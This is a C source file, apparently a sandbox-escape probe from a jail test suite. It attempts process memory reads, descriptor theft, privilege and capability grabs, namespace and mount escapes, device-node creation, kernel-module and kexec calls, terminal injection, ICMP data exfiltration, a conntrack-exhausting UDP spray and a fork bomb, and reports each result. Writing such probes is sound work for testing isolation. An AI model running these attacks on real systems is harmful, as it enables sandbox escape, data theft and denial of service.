// The attacks that take a system call of their own choosing: `probe COMMAND [ARGUMENTS]`. Linked statically, so that it runs in
// any jail. Prints one line for each thing it tried, `<what> ok` or `<what> <errno's name>`, and for thefts what it got.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <arpa/inet.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/fsuid.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define TEXT_BYTES 64

static void tell(const char *what, long result) {
  const char *name = result >= 0 ? "ok" : strerrorname_np(errno);
  printf("%s %s\n", what, name ? name : "E?");
  fflush(stdout);
}

// In a child: what succeeds changes nobody else, and a filter that kills looks like an error.
static void try_apart(const char *what, long (*act)(void)) {
  fflush(stdout);
  pid_t child = fork();
  if (child < 0) { tell(what, -1); return; }
  if (child == 0) {
    long result = act();
    _exit(result >= 0 ? 0 : errno);
  }
  int status = 0;
  waitpid(child, &status, 0);
  if (WIFSIGNALED(status)) { printf("%s SIG%s\n", what, sigabbrev_np(WTERMSIG(status))); return; }
  errno = WEXITSTATUS(status);
  tell(what, errno == 0 ? 0 : -1);
}

struct attempt { const char *what; long (*act)(void); };

static void try_all(const struct attempt *attempts, int count) {
  for (int i = 0; i < count; i++) try_apart(attempts[i].what, attempts[i].act);
}
#define TRY_ALL(list) try_all(list, sizeof list / sizeof *list)
#define ACT(name, expression) static long name(void) { return (long)(expression); }

// --- other processes ---

static void hold(const char *text) {
  char *kept = strdup(text);
  printf("%d %lx\n", getpid(), (unsigned long)kept);
  fflush(stdout);
  for (;;) pause();
}

static void read_memory(pid_t pid, unsigned long address) {
  char got[TEXT_BYTES + 1] = {0};
  struct iovec here = {got, TEXT_BYTES}, there = {(void *)address, TEXT_BYTES};
  tell("process_vm_readv", process_vm_readv(pid, &here, 1, &there, 1, 0));
  printf("%.*s\n", TEXT_BYTES, got);
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int fd = open(path, O_RDONLY);
  tell("open mem", fd);
  if (fd >= 0 && pread(fd, got, TEXT_BYTES, (off_t)address) > 0) printf("%.*s\n", TEXT_BYTES, got);
}

static void trace(pid_t pid, unsigned long address) {
  long attached = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
  tell("ptrace attach", attached);
  if (attached < 0) return;
  waitpid(pid, NULL, 0);
  long words[TEXT_BYTES / sizeof(long) + 1] = {0};
  for (unsigned i = 0; i < TEXT_BYTES / sizeof(long); i++)
    words[i] = ptrace(PTRACE_PEEKDATA, pid, (void *)(address + i * sizeof(long)), NULL);
  printf("%s\n", (char *)words);
  ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void steal_descriptor(pid_t pid, int fd) {
  int process = syscall(SYS_pidfd_open, pid, 0);
  tell("pidfd_open", process);
  int stolen = syscall(SYS_pidfd_getfd, process, fd, 0);
  tell("pidfd_getfd", stolen);
  char got[TEXT_BYTES + 1] = {0};
  if (stolen >= 0 && pread(stolen, got, TEXT_BYTES, 0) > 0) printf("%s\n", got);
}

// --- descriptors and files ---

static void look_into_descriptors(void) {
  for (int fd = 0; fd < 4096; fd++) {
    struct stat facts;
    if (fstat(fd, &facts) < 0) continue;
    char got[TEXT_BYTES + 1] = {0};
    if (S_ISREG(facts.st_mode)) {
      if (pread(fd, got, TEXT_BYTES, 0) > 0) printf("%d file %s\n", fd, got);
      else printf("%d file\n", fd);
    }
    if (!S_ISDIR(facts.st_mode)) continue;
    printf("%d folder\n", fd);
    DIR *folder = fdopendir(dup(fd));
    for (struct dirent *entry; folder && (entry = readdir(folder));) printf("%d holds %s\n", fd, entry->d_name);
  }
}

static void make_handle(const char *path) {
  struct { struct file_handle head; unsigned char bytes[128]; } handle;
  handle.head.handle_bytes = 128;
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0) { tell("name_to_handle_at", -1); exit(1); }
  printf("%d ", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.head.f_handle[i]);
  printf("\n");
}

static void open_handle(const char *mount_point, int type, const char *hex) {
  struct { struct file_handle head; unsigned char bytes[128]; } handle;
  handle.head.handle_type = type;
  handle.head.handle_bytes = strlen(hex) / 2;
  for (unsigned i = 0; i < handle.head.handle_bytes; i++) sscanf(hex + 2 * i, "%2hhx", &handle.head.f_handle[i]);
  int fd = open_by_handle_at(open(mount_point, O_RDONLY), &handle.head, O_RDONLY);
  tell("open_by_handle_at", fd);
  char got[TEXT_BYTES + 1] = {0};
  if (fd >= 0 && read(fd, got, TEXT_BYTES) > 0) printf("%s\n", got);
}

// --- privilege ---

static long all_capabilities(void) {
  struct __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct data[2] = {{~0u, ~0u, ~0u}, {0x1ff, 0x1ff, 0x1ff}};
  return syscall(SYS_capset, &head, data);
}

static void become_root(const char *own_file) {
  all_capabilities();
  prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0);
  prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
  prctl(PR_SET_SECUREBITS, 0, 0, 0, 0);
  gid_t none = 0;
  tell("setgroups", setgroups(1, &none));
  tell("setgid", setresgid(0, 0, 0));
  tell("setuid", setresuid(0, 0, 0));
  tell("setfsuid", setfsuid(0) == 0 && setfsuid(0) == 0 ? 0 : (errno = EPERM, -1));
  tell("chown", chown(own_file, 0, 0));
}

static void who(void) {
  struct __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct data[2] = {{0}};
  syscall(SYS_capget, &head, data);
  printf("uid %d euid %d caps %x%08x\n", getuid(), geteuid(), data[1].permitted, data[0].permitted);
}

// --- namespaces, mounts ---

static long in_clone(int flags) {
  long child = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
  if (child == 0) _exit(0);
  return child;
}
static long in_clone3(uint64_t flags) {
  uint64_t arguments[8] = {flags, 0, 0, 0, SIGCHLD, 0, 0, 0};
  long child = syscall(SYS_clone3, arguments, sizeof arguments);
  if (child == 0) _exit(0);
  return child;
}
ACT(unshare_user, unshare(CLONE_NEWUSER))
ACT(unshare_mount, unshare(CLONE_NEWNS))
ACT(unshare_pid, unshare(CLONE_NEWPID))
ACT(unshare_net, unshare(CLONE_NEWNET))
ACT(unshare_ipc, unshare(CLONE_NEWIPC))
ACT(unshare_uts, unshare(CLONE_NEWUTS))
ACT(unshare_cgroup, unshare(CLONE_NEWCGROUP))
ACT(clone_user, in_clone(CLONE_NEWUSER))
ACT(clone_all, in_clone(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWPID))
ACT(clone3_user, in_clone3(CLONE_NEWUSER))
ACT(clone3_all, in_clone3(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWPID))
static const struct attempt user_namespaces[] = {
    {"unshare", unshare_user}, {"clone", clone_user}, {"clone3", clone3_user}};
static const struct attempt other_namespaces[] = {
    {"mount", unshare_mount}, {"pid", unshare_pid}, {"net", unshare_net}, {"ipc", unshare_ipc}, {"uts", unshare_uts},
    {"cgroup", unshare_cgroup}, {"clone", clone_all}, {"clone3", clone3_all}};

static const char *joined;
static long join_one(void) {
  int fd = open(joined, O_RDONLY);
  return fd < 0 ? -1 : setns(fd, 0);
}
static void join_namespaces(const char *pid) {
  static const char *kinds[] = {"mnt", "net", "ipc", "uts", "cgroup"};
  for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, kinds[i]);
    joined = path;
    try_apart(kinds[i], join_one);
  }
}

ACT(mount_tmpfs, mount("tmpfs", "/tmp", "tmpfs", 0, NULL))
ACT(mount_proc, mount("proc", "/tmp", "proc", 0, NULL))
ACT(mount_sysfs, mount("sysfs", "/tmp", "sysfs", 0, NULL))
ACT(mount_bind, mount("/usr", "/tmp", NULL, MS_BIND, NULL))
ACT(remount_usr, mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL))
ACT(unmount_proc, umount2("/proc", MNT_DETACH))
ACT(new_mount, syscall(SYS_fsopen, "tmpfs", 0))
ACT(open_tree_, syscall(428, AT_FDCWD, "/usr", 1))
ACT(set_attributes, ({ uint64_t a[4] = {0, 1, 0, 0}; syscall(442, AT_FDCWD, "/usr", 0, a, sizeof a); }))
static const struct attempt mounts[] = {
    {"tmpfs", mount_tmpfs}, {"proc", mount_proc}, {"sysfs", mount_sysfs}, {"bind", mount_bind}, {"remount", remount_usr},
    {"unmount", unmount_proc}, {"fsopen", new_mount}, {"open_tree", open_tree_}, {"mount_setattr", set_attributes}};
ACT(mount_cgroup1, mount("cgroup", "/tmp", "cgroup", 0, "memory"))
ACT(mount_cgroup1_named, mount("cgroup", "/tmp", "cgroup", 0, "none,name=millraceattack"))
ACT(mount_cgroup2, mount("cgroup2", "/tmp", "cgroup2", 0, NULL))
static const struct attempt cgroup_mounts[] = {
    {"v1", mount_cgroup1}, {"named", mount_cgroup1_named}, {"v2", mount_cgroup2}};

ACT(chroot_tmp, chroot("/tmp"))
ACT(pivot, syscall(SYS_pivot_root, "/tmp", "/tmp"))
static const struct attempt roots[] = {{"chroot", chroot_tmp}, {"pivot_root", pivot}};

// --- devices ---

static const char *device_folder;
static long make_device(int type, int major_, int minor_) {
  char path[256];
  snprintf(path, sizeof path, "%s/device-%d-%d", device_folder, major_, minor_);
  if (mknod(path, type | 0600, makedev(major_, minor_)) < 0) return -1;
  int fd = open(path, O_RDONLY);
  int problem = errno;
  unlink(path);
  errno = problem;
  return fd;
}
ACT(device_null, make_device(S_IFCHR, 1, 3))
ACT(device_mem, make_device(S_IFCHR, 1, 1))
ACT(device_kmsg, make_device(S_IFCHR, 1, 11))
ACT(device_loop, make_device(S_IFBLK, 7, 0))
ACT(device_sda, make_device(S_IFBLK, 8, 0))
ACT(device_vda, make_device(S_IFBLK, 254, 0))
static const struct attempt devices[] = {
    {"null", device_null}, {"mem", device_mem}, {"kmsg", device_kmsg}, {"loop", device_loop}, {"sda", device_sda}, {"vda", device_vda}};

static void kernel_log(void) {
  static char text[1 << 20];
  int length = klogctl(3, text, sizeof text - 1);
  tell("syslog", length);
  if (length > 0) printf("%.*s\n", length, text);
}

// --- system calls that nobody's function needs ---

ACT(load_module, syscall(SYS_init_module, NULL, 0, ""))
ACT(load_module_file, syscall(SYS_finit_module, -1, "", 0))
ACT(unload_module, syscall(SYS_delete_module, "millrace_none", 0))
ACT(load_kernel, syscall(SYS_kexec_load, 0, 0, NULL, 0))
ACT(reboot_, syscall(SYS_reboot, 0, 0, 0, 0))
ACT(swap_on, syscall(SYS_swapon, "/millrace-none", 0))
ACT(swap_off, syscall(SYS_swapoff, "/millrace-none"))
ACT(accounting, syscall(SYS_acct, "/millrace-none"))
ACT(host_name, syscall(SYS_sethostname, "x", -1))
ACT(domain_name, syscall(SYS_setdomainname, "x", -1))
static const struct attempt kernel[] = {
    {"init_module", load_module}, {"finit_module", load_module_file}, {"delete_module", unload_module}, {"kexec_load", load_kernel},
    {"reboot", reboot_}, {"swapon", swap_on}, {"swapoff", swap_off}, {"acct", accounting}, {"sethostname", host_name},
    {"setdomainname", domain_name}};
ACT(uring, ({ static char p[256]; memset(p, 0, sizeof p); syscall(425, 1, p); }))
static const struct attempt io_uring[] = {{"io_uring_setup", uring}};
ACT(bpf_map, ({ static char a[128]; memset(a, 0, sizeof a); syscall(SYS_bpf, 0, a, sizeof a); }))
static const struct attempt bpf[] = {{"bpf", bpf_map}};
ACT(fault_fd, syscall(SYS_userfaultfd, O_CLOEXEC | 1))
static const struct attempt faults[] = {{"userfaultfd", fault_fd}};
ACT(perf, ({ static uint32_t a[32]; memset(a, 0, sizeof a); a[0] = 1; a[1] = 112; a[10] = 0x60; syscall(SYS_perf_event_open, a, 0, -1, -1, 0); }))
static const struct attempt profiling[] = {{"perf_event_open", perf}};
ACT(no_random, syscall(SYS_personality, 0x0040000))
ACT(read_implies_exec, syscall(SYS_personality, 0x0400000))
static const struct attempt personalities[] = {{"no randomisation", no_random}, {"read implies execute", read_implies_exec}};
ACT(trace_me, ptrace(PTRACE_TRACEME, 0, NULL, NULL))
static const struct attempt tracing[] = {{"ptrace", trace_me}};
ACT(key_add, syscall(SYS_add_key, "user", "millrace", "x", 1, -4))
ACT(key_join, syscall(SYS_keyctl, 1, NULL))
ACT(key_request, syscall(SYS_request_key, "user", "millrace", NULL, -4) < 0 && errno == ENOKEY ? 0 : -1)
static const struct attempt keys[] = {{"add_key", key_add}, {"keyctl", key_join}, {"request_key", key_request}};
#ifdef __x86_64__
ACT(x32_call, syscall(0x40000000 + 39))
static long call_32(void) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(20) : "memory", "r8", "r9", "r10", "r11");
  if (result < 0) { errno = -result; return -1; }
  return 0;
}
static const struct attempt entries[] = {{"x32", x32_call}, {"int 0x80", call_32}};
#else
static const struct attempt entries[] = {};
#endif
static long push_character(void) {
  setsid();
  int controller = posix_openpt(O_RDWR);
  if (controller < 0 || grantpt(controller) < 0 || unlockpt(controller) < 0) return -1;
  int terminal = open(ptsname(controller), O_RDWR);
  if (terminal < 0) return -1;
  ioctl(terminal, TIOCSCTTY, 0);
  return ioctl(terminal, TIOCSTI, "x");
}
static const struct attempt terminals[] = {{"TIOCSTI", push_character}};

static void read_key(long serial) {
  char got[TEXT_BYTES + 1] = {0};
  tell("keyctl read", syscall(SYS_keyctl, 11, serial, got, TEXT_BYTES));
  printf("%s\n", got);
}

// --- network ---

static void socket_families(void) {
  static const struct { const char *what; int family, type, protocol; } kinds[] = {
      {"unix", AF_UNIX, SOCK_STREAM, 0}, {"inet", AF_INET, SOCK_STREAM, 0}, {"inet6", AF_INET6, SOCK_STREAM, 0},
      {"netlink", AF_NETLINK, SOCK_RAW, 0}, {"raw", AF_INET, SOCK_RAW, IPPROTO_ICMP}, {"raw6", AF_INET6, SOCK_RAW, 58},
      {"raw-any", AF_INET, SOCK_RAW, IPPROTO_RAW}, {"packet", AF_PACKET, SOCK_RAW, 0x0300}, {"vsock", AF_VSOCK, SOCK_STREAM, 0},
      {"alg", AF_ALG, SOCK_SEQPACKET, 0}, {"key", AF_KEY, SOCK_RAW, 2}, {"xdp", 44, SOCK_RAW, 0}, {"tipc", AF_TIPC, SOCK_STREAM, 0},
      {"bluetooth", AF_BLUETOOTH, SOCK_RAW, 1}, {"can", AF_CAN, SOCK_RAW, 1}, {"x25", AF_X25, SOCK_SEQPACKET, 0},
      {"smc", 43, SOCK_STREAM, 0}, {"rds", AF_RDS, SOCK_SEQPACKET, 0}, {"audit", AF_NETLINK, SOCK_RAW, 9},
      {"sctp", AF_INET, SOCK_SEQPACKET, 132}, {"mptcp", AF_INET, SOCK_STREAM, 262}, {"dccp", AF_INET, 6, 33}};
  for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++)
    tell(kinds[i].what, socket(kinds[i].family, kinds[i].type, kinds[i].protocol));
}

static void ping(const char *address, const char *text) {
  for (int type = SOCK_DGRAM; type <= SOCK_RAW; type++) {
    int fd = socket(AF_INET, type, IPPROTO_ICMP);
    tell(type == SOCK_RAW ? "raw socket" : "ping socket", fd);
    if (fd < 0) continue;
    struct { struct icmphdr head; char text[TEXT_BYTES]; } packet = {{.type = ICMP_ECHO}, ""};
    strncpy(packet.text, text, TEXT_BYTES - 1);
    struct sockaddr_in to = {.sin_family = AF_INET};
    inet_pton(AF_INET, address, &to.sin_addr);
    uint32_t sum = 0;
    for (unsigned i = 0; i < sizeof packet / 2; i++) sum += ((uint16_t *)&packet)[i];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    packet.head.checksum = ~sum;
    tell("send", sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to));
    struct pollfd answer = {fd, POLLIN, 0};
    printf("%s\n", poll(&answer, 1, 1000) > 0 ? "answered" : "silent");
  }
}

// Every datagram is a connection to anyone who keeps track of connections.
static void spray(const char *address, int count) {
  int fd = socket(AF_INET, SOCK_DGRAM, 0), sent = 0;
  struct sockaddr_in to = {.sin_family = AF_INET};
  inet_pton(AF_INET, address, &to.sin_addr);
  for (int i = 0; i < count; i++) {
    to.sin_port = htons(1024 + i % 60000);
    if (sendto(fd, "x", 1, 0, (struct sockaddr *)&to, sizeof to) == 1) sent++;
  }
  printf("sent %d\n", sent);
}

// --- shared memory and queues ---

static void put_shared(const char *text) {
  int id = shmget(0x6d72, 4096, IPC_CREAT | 0666);
  char *place = id < 0 ? (void *)-1 : shmat(id, NULL, 0);
  if (place != (void *)-1) strcpy(place, text);
  tell("sysv", id);
  int memory = shm_open("/millrace-attack", O_CREAT | O_RDWR, 0666);
  if (memory >= 0 && write(memory, text, strlen(text)) < 0) tell("write", -1);
  tell("posix", memory);
  struct mq_attr attributes = {.mq_maxmsg = 4, .mq_msgsize = 256};
  mqd_t queue = mq_open("/millrace-attack", O_CREAT | O_RDWR | O_NONBLOCK, 0666, &attributes);
  tell("queue", queue);
  if (queue >= 0) for (int i = 0; i < 4; i++) mq_send(queue, text, strlen(text), 0);
}

static void get_shared(void) {
  int id = shmget(0x6d72, 0, 0);
  char *place = id < 0 ? (void *)-1 : shmat(id, NULL, SHM_RDONLY);
  printf("sysv %s\n", place == (void *)-1 ? "" : place);
  char got[257] = {0};
  int memory = shm_open("/millrace-attack", O_RDONLY, 0);
  if (memory >= 0 && read(memory, got, TEXT_BYTES) < 0) tell("read", -1);
  printf("posix %s\n", got);
  memset(got, 0, sizeof got);
  mqd_t queue = mq_open("/millrace-attack", O_RDONLY | O_NONBLOCK);
  if (queue >= 0 && mq_receive(queue, got, 256, NULL) < 0) tell("receive", -1);
  printf("queue %s\n", got);
}

static void linger(void) {
  // As a daemon does: two forks, a session of its own, deaf to every signal that can be ignored.
  if (fork() > 0) _exit(0);
  setsid();
  if (fork() > 0) _exit(0);
  for (int signal_ = 1; signal_ < 65; signal_++) signal(signal_, SIG_IGN);
  for (int fd = 0; fd < 64; fd++) close(fd);
  for (;;) pause();
}

int main(int count, char **words) {
  if (count < 2) return 64;
  const char *command = words[1];
  const char *first = count > 2 ? words[2] : "", *second = count > 3 ? words[3] : "", *third = count > 4 ? words[4] : "";
  device_folder = "/tmp";
#define IS(name) (strcmp(command, name) == 0)
  if (IS("hold")) hold(first);
  if (IS("read-memory")) read_memory(atoi(first), strtoul(second, NULL, 16));
  if (IS("trace")) trace(atoi(first), strtoul(second, NULL, 16));
  if (IS("steal-descriptor")) steal_descriptor(atoi(first), atoi(second));
  if (IS("descriptors")) look_into_descriptors();
  if (IS("make-handle")) make_handle(first);
  if (IS("open-handle")) open_handle(first, atoi(second), third);
  if (IS("become-root")) become_root(first);
  if (IS("who")) who();
  if (IS("capset")) tell("capset", all_capabilities());
  if (IS("user-namespaces")) TRY_ALL(user_namespaces);
  if (IS("other-namespaces")) TRY_ALL(other_namespaces);
  if (IS("join-namespaces")) join_namespaces(first);
  if (IS("mounts")) TRY_ALL(mounts);
  if (IS("cgroup-mounts")) TRY_ALL(cgroup_mounts);
  if (IS("roots")) TRY_ALL(roots);
  if (IS("devices")) TRY_ALL(devices);
  if (IS("kernel-log")) kernel_log();
  if (IS("kernel")) TRY_ALL(kernel);
  if (IS("io_uring")) TRY_ALL(io_uring);
  if (IS("bpf")) TRY_ALL(bpf);
  if (IS("userfaultfd")) TRY_ALL(faults);
  if (IS("perf")) TRY_ALL(profiling);
  if (IS("personality")) TRY_ALL(personalities);
  if (IS("trace-me")) TRY_ALL(tracing);
  if (IS("keys")) TRY_ALL(keys);
  if (IS("entries")) TRY_ALL(entries);
  if (IS("terminal")) TRY_ALL(terminals);
  if (IS("key-add")) printf("%ld\n", syscall(SYS_add_key, "user", first, second, strlen(second), -4));
  if (IS("key-read")) read_key(atol(first));
  if (IS("sockets")) socket_families();
  if (IS("ping")) ping(first, second);
  if (IS("spray")) spray(first, atoi(second));
  if (IS("put-shared")) put_shared(first);
  if (IS("get-shared")) get_shared();
  if (IS("linger")) linger();
  if (IS("fork-bomb")) for (;;) fork();
  return 0;
}
